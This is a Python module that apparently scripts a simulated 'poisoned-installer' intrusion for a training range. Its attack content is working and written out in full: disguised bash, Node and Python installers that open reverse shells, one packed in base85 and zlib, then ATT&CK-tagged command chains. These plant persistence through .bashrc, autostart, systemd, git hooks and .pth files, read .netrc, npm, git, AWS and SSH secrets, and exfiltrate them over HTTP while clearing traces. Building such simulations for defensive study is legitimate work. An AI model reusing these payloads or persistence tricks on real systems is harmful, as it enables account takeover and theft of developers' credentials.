"""A developer runs an installer from a stranger's server; what it leaves behind lives in their own account."""

from __future__ import annotations

import base64
import io
import tarfile
import zlib
from typing import TYPE_CHECKING

from plot import Storyline
from storylines._walk import walk

if TYPE_CHECKING:
    from intruder import Intruder, Shell

MIDDLE = (6.0, 3.0, 20.0)  # seconds between two acts, by variant

WEAKEN = r"""
set -e
# what developers' homes hold: settings with made-up passwords and tokens, and a job that really uses one of them
: > /etc/cron.d/depot-news
getent passwd | awk -F: '$3 >= 1100 && $3 < 3000 {print $1, $6}' | while read -r who home; do
    n=$(id -u "$who")
    put() { [ -e "$home/$1" ] || { install -D -o "$who" -g "$who" -m 600 /dev/stdin "$home/$1"; }; }
    install -d -o "$who" -g "$who" "$home/.config" "$home/.cache" "$home/.local" "$home/.local/bin" "$home/.aws" \
        "$home/notes"
    printf 'machine files.example login %s password drift-%d-pine\n' "$who" "$n" | put .netrc
    printf '//registry.example/:_authToken=npm_%dq7h2k\nfund=false\n' "$n" | put .npmrc
    printf 'https://%s:gp_%dm3x9@git.example\n' "$who" "$n" | put .git-credentials
    printf '[default]\naws_access_key_id = AKEXAMPLE%d\naws_secret_access_key = example/%d/secret\n' "$n" "$n" \
        | put .aws/credentials
    for page in plan roadmap release prices; do
        printf '# %s\n%s: first draft\nNumbers: %d %d %d\n' "$page" "$who" "$n" "$((n * 3))" "$((n * 7))" \
            | put "notes/$page.md"
    done
    echo "*/8 * * * * $who curl -n -s -m 5 http://198.51.100.10/ -o ~/.cache/depot-news" >> /etc/cron.d/depot-news
done
"""

BASH_INSTALLER = r"""#!/bin/bash
# fmtkit installer
set -u
echo "fmtkit 1.4.2: looking for a compiler ..."
command -v gcc || command -v clang
mkdir -p "$HOME/.local/bin" "$HOME/.config/fmtkit"
cat > "$HOME/.local/bin/fmtkit" <<'E'
#!/bin/sh
exec sed -e 's/[ \t]*$//' "$@"
E
chmod 755 "$HOME/.local/bin/fmtkit"
echo "width = 100" > "$HOME/.config/fmtkit/fmtkit.toml"
(setsid bash -c 'exec bash -i >& /dev/tcp/@HOST@/@PORT@ 0>&1' >/dev/null 2>&1 </dev/null &)
echo "installed to ~/.local/bin/fmtkit"
"""

NODE_SETUP = r"""#!/bin/sh
# builds the search index of the editor plugin
cd "$(dirname "$0")" || exit 1
echo "tagline: building index"
node -e 'console.log("modules:", require("fs").readdirSync("lib").length)'
setsid node lib/daemon.js >/dev/null 2>&1 </dev/null &
sleep 1
echo "tagline: ready, restart your editor"
"""

NODE_DAEMON = r"""
const net = require("net"), { spawn } = require("child_process");
const s = net.connect(@PORT@, "@HOST@", () => {
  const sh = spawn("/bin/bash", ["-i"], { cwd: process.env.HOME });
  s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);
  sh.on("exit", () => process.exit(0));
});
s.on("error", () => process.exit(0));
"""

PYTHON_SETUP = r'''#!/usr/bin/env python3
"""Sets up the team's snapshot tester for this user."""
import base64, os, pathlib, sys, zlib

PART = "@PACKED@"
home = pathlib.Path.home()
target = home / ".local" / "share" / "snaptest"
target.mkdir(parents=True, exist_ok=True)
(target / "VERSION").write_text("0.9.1\n")
(target / "runner.py").write_bytes(zlib.decompress(base64.b85decode(PART)))
print("snaptest 0.9.1 for python", sys.version.split()[0])
if os.fork() == 0:
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    os.execv(sys.executable, [sys.executable, str(target / "runner.py")])
print("ready: run `snaptest --help`")
'''

PYTHON_RUNNER = """
import os, pty, socket
s = socket.create_connection(("@HOST@", @PORT@))
for n in range(3):
    os.dup2(s.fileno(), n)
os.chdir(os.path.expanduser("~"))
pty.spawn("/bin/bash")
"""

# A line copied from a page: a beacon in the shell's start-up file, tools under other names.
ONE_LINE = r"""
== discovery | TA0007 | Whose account, which projects, which tools.
T1562.003 export HISTCONTROL=ignorespace
T1059.004  script -q /dev/null
T1033  id; hostname; uname -r
T1083  ls -la ~ ~/.config
? T1213.003  git config --global --list
T1518  pip list --user 2>/dev/null | head; npm -v; go version
? T1217  ls -d ~/.mozilla ~/.config/chromium ~/.config/google-chrome
T1057  ps -u $USER -o pid,tty,cmd
? T1082  env | sort | cut -c1-100
T1083  find ~ -maxdepth 3 -name .git -type d 2>/dev/null
== persistence | TA0003 | A beacon started by every new shell and by the desktop.
T1105  mkdir -p ~/.local/share/fonts; wget -qO {agent} {url}; chmod 700 {agent}
T1071.001 @plant {agent}
T1546.004  printf '%s\n' '# font cache' '[ -x {agent} ] && ({agent} >/dev/null 2>&1 &)' >> ~/.bashrc
T1547.013  mkdir -p ~/.config/autostart; printf '[Desktop Entry]\nType=Application\nName=Font cache\n\
Exec={agent}\nNoDisplay=true\n' > ~/.config/autostart/fonts.desktop
T1070.006  touch -r ~/.profile ~/.bashrc
T1071.001 &  setsid {agent} >/dev/null 2>&1 &
== credential access | TA0006 | The files in which tools keep passwords and tokens.
T1552.001  cat ~/.netrc ~/.npmrc
T1552.001  cat ~/.git-credentials ~/.aws/credentials
T1552.004  ls -la ~/.ssh; head -c 300 ~/.ssh/id_* 2>/dev/null
T1552.003  tail -n 40 ~/.bash_history | grep -E 'ssh|curl|export|token'
T1555  printf 'protocol=https\nhost=git.example\n\n' | git -c credential.helper=store credential fill
? T1115  xclip -o -selection clipboard
== collection | TA0009 | Settings and notes are packed below the cache folder.
T1036.003  cp /usr/bin/curl ~/.cache/{tool}; ls -l ~/.cache/{tool}
T1560.001  tar czf ~/.cache/f.tgz -C ~ .netrc .npmrc .git-credentials .aws .ssh notes; du -h ~/.cache/f.tgz
== exfiltration | TA0010 | The archive goes to the server that the beacon speaks to.
T1041  ~/.cache/{tool} -s --data-binary @$HOME/.cache/f.tgz {depot}/fonts/put
T1070.004  rm -f ~/.cache/f.tgz ~/.cache/{tool}
T1070.003  history -c
T1059.004  exit
T1059.004 exit
"""

# Fast: a tarball with a set-up script; node is the tool; profile, git and a user unit keep it alive.
UNPACKED = r"""
== discovery | TA0007 | A quick look at the account and at what it can reach.
T1562.003 unset HISTFILE; id -a
T1082 cat /etc/os-release | head -2; nproc; lscpu | grep Model
T1033 w -h; last -n 4 -w
T1083 ls -lad ~/*/ ~/.[a-z]*/
T1018 cat ~/.ssh/config ~/.ssh/known_hosts
? T1069.001 sudo -n true
? T1007 systemctl --user list-units || echo none
T1083 find ~ /srv -maxdepth 4 \( -name '*.env' -o -name 'secrets*' -o -name '*.kdbx' \) 2>/dev/null
== credential access | TA0006 | Tokens of npm, git and cloud are printed by node, and the keys are copied.
T1552.001 node -e 'const f=require("fs"),h=process.env.HOME;for(const n of [".npmrc",".netrc",".git-credentials",\
".aws/credentials"])try{console.log(n,f.readFileSync(h+"/"+n,"utf8"))}catch(e){console.log(n,e.code)}'
? T1213.003 git config --get-all remote.origin.url; grep -h url ~/*/.git/config
T1552.001 for p in $(pgrep -u $USER); do tr '\0' '\n' < /proc/$p/environ | grep -iE 'token|pass'; done 2>/dev/null
T1552.004 ssh-add -l
T1552.004 cp -r ~/.ssh ~/.cache/s 2>/dev/null; ls ~/.cache/s
== persistence | TA0003 | Login profile, a user unit and a hook of git all start the same small script.
T1140 echo {coded} | xxd -r -p > {agent}; chmod +x {agent}
T1071.001 @plant {agent}
T1546.004 echo '{agent} >/dev/null 2>&1 &' >> ~/.profile
T1543.002 mkdir -p ~/.config/systemd/user; printf '[Service]\nExecStart={agent}\n[Install]\n\
WantedBy=default.target\n' > ~/.config/systemd/user/{tool}.service
T1543.002 systemctl --user enable {tool}
T1546 mkdir -p ~/.config/git/hooks; git config --global core.hooksPath ~/.config/git/hooks
T1546 printf '#!/bin/sh\n{agent} &\n' > ~/.config/git/hooks/post-checkout; chmod +x ~/.config/git/hooks/*
T1546 @plant /home/{who}/.config/git/hooks/post-checkout
T1071.001 & (for i in 1 2 3 4 5 6; do {agent}; sleep 30; done) >/dev/null 2>&1 &
== collection | TA0009 | Sources and notes of the last weeks are found and packed by bzip2.
T1119 find ~ -path '*/.cache' -prune -o -type f -size -200k -mtime -30 -name '*.[cmp]*' -print \
| head -n 60 > ~/.cache/l; wc -l ~/.cache/l
T1560.001 tar cjf ~/.cache/l.bz2 -T ~/.cache/l ~/.cache/s 2>/dev/null; ls -l ~/.cache/l.bz2
== exfiltration | TA0010 | node posts the archive; what was unpacked is removed.
T1041 node -e 'const q=require("http").request("{depot}/v1/cache",{method:"POST"},r=>console.log(r.statusCode));\
q.end(require("fs").readFileSync(process.env.HOME+"/.cache/l.bz2"))'
T1070.004 rm -rf ~/.cache/l ~/.cache/l.bz2 ~/.cache/s ~/tagline*
T1059.004 exit
"""

# Slow, few commands: a python tool "of the team" that leaves a start-up hook in the user's python.
TEAM_TOOL = r"""
== discovery | TA0007 | What a developer would look at: projects, versions, space.
T1083  pwd; ls
T1518  python3 -m site
T1082  df -h ~; uptime
? T1213.003  cat ~/.gitconfig
T1083  ls -lt ~/notes | head
T1083  gti status
T1069.001  getent group | grep $USER
== persistence | TA0003 | A path file makes the user's every python start a small script.
T1027.010  echo {reversed} | rev | base64 -d > {agent} && chmod 755 {agent}
T1546.018 @plant {agent}
T1546.018  p=$(python3 -m site --user-site); mkdir -p $p; echo $p
T1546.018  echo "import os; os.spawnl(os.P_NOWAIT, '{agent}', 'sh')" > $p/snaptest-nspkg.pth
T1546.018  python3 -c 'print(1)'
T1070.006  touch -d '4 months ago' $p/*.pth ~/.local/share/snaptest/*
== credential access | TA0006 | Only the files that tools read anyway.
T1552.001  python3 -c 'import netrc; print(netrc.netrc().hosts)'
T1552.001  grep -H . ~/.npmrc ~/.git-credentials
T1552.001  awk -F' = ' '/^aws/{print $2}' ~/.aws/credentials
? T1552.004  ls ~/.ssh && cat ~/.ssh/id_ed25519 2>/dev/null | wc -c
T1552.003  grep -cE 'ssh|token' ~/.bash_history
== collection | TA0009 | python packs notes and settings without another program.
T1560.002  python3 - <<'EOF'
import os, tarfile
home = os.path.expanduser("~/")
with tarfile.open(home + ".cache/report.txz", "w:xz") as pack:
    for name in ("notes", ".netrc", ".aws", ".git-credentials"):
        pack.add(home + name, name)
EOF
== exfiltration | TA0010 | The archive and the last commands are posted as reports.
T1041  python3 -c 'import os,urllib.request as u;p=os.path.expanduser("~/.cache/report.txz");\
print(u.urlopen("{depot}/report",open(p,"rb").read()).status)'
T1041  curl -s -d "$(tail -n 30 ~/.bash_history)" {depot}/report
T1070.004  rm -f ~/get-snaptest.py ~/.cache/report.txz
T1059.004  exit
"""


def filled(text: str, own: Intruder, port: int) -> str:
    return text.replace("@HOST@", own.address).replace("@PORT@", str(port))


def one_line(own: Intruder, who: str, names: dict[str, str]) -> Shell:
    """curl into bash."""
    port = own.pick((4444, 8090, 6060))
    beacon = (
        "#!/bin/sh\nid=$(hostname)-$(id -un)\nmkdir /tmp/.fc-$(id -u) 2>/dev/null || exit 0\n"
        "n=0\nwhile [ $n -lt 8 ]; do\n"
        f"  curl -s -m 4 -A 'fontconfig/2.14' \"{own.depot}/fonts/$id\" >/dev/null\n  n=$((n+1)); sleep 45\ndone\n"
    )
    agent = own.pick(("fc-refresh", "at-spi-helper", "gvfs-thumbd"))
    names |= {"agent": f"/home/{who}/.local/share/fonts/{agent}", "url": own.offer(agent, beacon)}
    names["tool"] = own.pick(("fontd", "idx", "tracker3"))
    url = own.offer("install.sh", filled(BASH_INSTALLER, own, port))
    return own.catch(port, lambda: own.lure(own.entry, who, f"curl -fsSL {url} | bash", "T1204.004"), "T1059.004")


def unpacked(own: Intruder, who: str, names: dict[str, str]) -> Shell:
    """An archive, then the script in it."""
    port = own.pick((9443, 5228, 3000))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        daemon = filled(NODE_DAEMON, own, port)
        readme = "tagline\n\nrun ./setup.sh\n"
        for name, text in (("setup.sh", NODE_SETUP), ("lib/daemon.js", daemon), ("README", readme)):
            entry = tarfile.TarInfo(f"tagline-2.3/{name}")
            entry.size, entry.mode = len(text), 0o755 if name.endswith(".sh") else 0o644
            archive.addfile(entry, io.BytesIO(text.encode()))
    url = own.offer("tagline-2.3.tar.gz", buffer.getvalue())
    tool = own.pick(("node-gyp-cache", "corepack-sync", "tsserver-watch"))
    script = f"#!/usr/bin/env node\nrequire('http').get('{own.depot}/v1/ping',r=>r.resume()).on('error',()=>0);\n"
    names |= {"tool": tool, "agent": f"/home/{who}/.local/bin/{tool}", "coded": script.encode().hex()}
    own.lure(own.entry, who, f"wget -q {url} -O tagline.tgz && tar xzf tagline.tgz && ls tagline-2.3", "T1204.002")
    own.think(6)
    return own.catch(port, lambda: own.lure(own.entry, who, "./tagline-2.3/setup.sh", "T1204.002"), "T1059.007")


def team_tool(own: Intruder, who: str, names: dict[str, str]) -> Shell:
    """A script of python that carries another in a string."""
    port = own.pick((8001, 7070, 5005))
    packed = base64.b85encode(zlib.compress(filled(PYTHON_RUNNER, own, port).encode())).decode()
    url = own.offer("get-snaptest.py", PYTHON_SETUP.replace("@PACKED@", packed))
    script = (
        "#!/bin/sh\nmkdir /tmp/.snap-$(id -u)-$(date +%H%M | cut -c1-3) 2>/dev/null || exit 0\n"
        f'wget -q -T 4 -O /dev/null "{own.depot}/simple/snaptest?v=0.9.1"\n'
    )
    names["agent"] = f"/home/{who}/.local/share/snaptest/{own.pick(('upgrade', 'report', 'collectd'))}"
    names["reversed"] = base64.b64encode(script.encode()).decode()[::-1]
    own.lure(own.entry, who, f"curl -sO {url}; head -n 3 get-snaptest.py", "T1204.002")
    own.think(12)
    return own.catch(port, lambda: own.lure(own.entry, who, "python3 get-snaptest.py", "T1204.002"), "T1059.006")


def play(own: Intruder) -> None:
    who = own.pick(own.entry.people)
    names = {"depot": own.depot, "who": who}
    own.step("user execution", "TA0002", "The developer runs what was offered as an installer; a shell comes back.")
    shell = (one_line, unpacked, team_tool)[own.variant](own, who, names)
    own.think(8)
    walk(own, (ONE_LINE, UNPACKED, TEAM_TOOL)[own.variant], shell, names, MIDDLE[own.variant])
    shell.close()


STORYLINE = Storyline(
    name="poisoned-installer",
    split="train",
    words=(
        "A developer runs an installer that somebody else wrote: a line for the shell, a plugin in an archive, or a "
        "script of python. It opens a shell for the intruder, who stays in the user's start-up files, reads the "
        "credentials that tools keep in the home folder, and sends them out over HTTP. Root is never needed."
    ),
    weaken=WEAKEN,
    play=play,
    variants=3,
    minutes=11,
    hosts=("forge-02",),
)
